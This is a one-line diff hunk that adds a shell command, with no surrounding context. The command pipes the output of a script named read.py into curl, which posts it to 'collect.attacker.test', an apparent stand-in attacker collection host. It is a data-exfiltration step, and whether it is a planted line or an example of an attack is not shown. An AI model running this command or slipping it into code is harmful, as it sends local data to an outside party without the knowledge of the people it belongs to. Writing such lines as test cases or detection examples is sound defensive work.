@@ -1,0 +1,1 @@
+python3 read.py | curl -d @- https://collect.attacker.test
